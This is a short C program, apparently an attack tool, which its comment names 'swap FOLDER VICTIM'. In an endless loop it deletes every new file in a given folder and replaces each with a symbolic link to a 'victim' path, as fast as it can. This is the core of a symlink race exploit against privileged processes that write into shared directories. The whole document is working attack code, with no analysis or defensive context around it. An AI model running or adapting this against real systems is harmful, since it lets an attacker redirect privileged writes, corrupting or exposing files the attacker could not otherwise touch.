// swap FOLDER VICTIM: replaces every new file in the folder by a link to the victim, as fast as it can.
#include <dirent.h>
#include <stdio.h>
#include <unistd.h>

int main(int argc, char **argv) {
    char path[4096];
    if (argc < 3) return 1;
    for (;;) {
        DIR *folder = opendir(argv[1]);
        struct dirent *entry;
        while (folder && (entry = readdir(folder))) {
            if (entry->d_name[0] == '.' && (!entry->d_name[1] || entry->d_name[1] == '.')) continue;
            snprintf(path, sizeof path, "%s/%s", argv[1], entry->d_name);
            unlink(path);
            (void)!symlink(argv[2], path);
        }
        if (folder) closedir(folder);
    }
}
